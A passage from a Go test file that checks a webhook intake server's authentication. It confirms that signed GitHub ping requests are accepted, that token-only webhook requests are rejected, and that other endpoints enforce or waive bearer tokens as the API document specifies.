					signed, token bool
					want          int
				}{{true, false, http.StatusAccepted}, {false, true, http.StatusUnauthorized}} {
					req, _ := http.NewRequest("POST", e.srv.URL+path, strings.NewReader("{}"))
					req.Header.Set("X-GitHub-Event", "ping")
					if tc.signed {
						req.Header.Set("X-Hub-Signature-256", intake.Sign("whsec", []byte("{}")))
					}
					if tc.token {
						req.Header.Set("Authorization", "Bearer "+token)
					}
					resp, err := http.DefaultClient.Do(req)
					if err != nil {
						t.Fatal(err)
					}
					resp.Body.Close()
					if resp.StatusCode != tc.want {
						t.Errorf("%s signed=%v with token=%v = %d, want %d", op, tc.signed, tc.token, resp.StatusCode, tc.want)
					}
				}
				continue
			}
			resp := e.do(strings.ToUpper(method), params.Replace(path), "{}", false, nil)
			if got := resp.StatusCode == http.StatusUnauthorized; got == anonymous {
				t.Errorf("%s without a token = %d; the document says the bearer is %s", op, resp.StatusCode, map[bool]string{true: "optional", false: "required"}[anonymous])
			}
		}
	}
}
